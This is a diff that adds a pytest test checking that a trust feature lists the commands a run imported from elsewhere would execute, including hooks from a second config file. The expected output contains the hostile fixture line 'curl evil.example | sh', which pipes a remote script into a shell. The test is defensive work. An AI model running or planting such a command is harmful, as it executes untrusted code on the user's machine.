@@ -37,6 +37,14 @@ def from_elsewhere(folder: Path) -> FakeRun:
     return fake
 
 
+def test_a_command_in_either_config_is_shown(own: Path) -> None:
+    fake = from_elsewhere(own / "runs")
+    fake.run.recorded_config.parent.mkdir(exist_ok=True)
+    (fake.run.attempts / "config.yaml").write_text("cost: {on_finish: hidden}")
+    shown = trust.what_it_runs(fake.run)
+    assert [line.rpartition(": ")[2] for line in shown[2:]] == ["curl evil.example | sh", "hidden"]
+
+
 @pytest.mark.behaviour("run-from-elsewhere-asks")
 def test_nothing_of_a_run_from_elsewhere_starts_before_it_is_trusted(own: Path) -> None:
     fake = from_elsewhere(own / "runs")
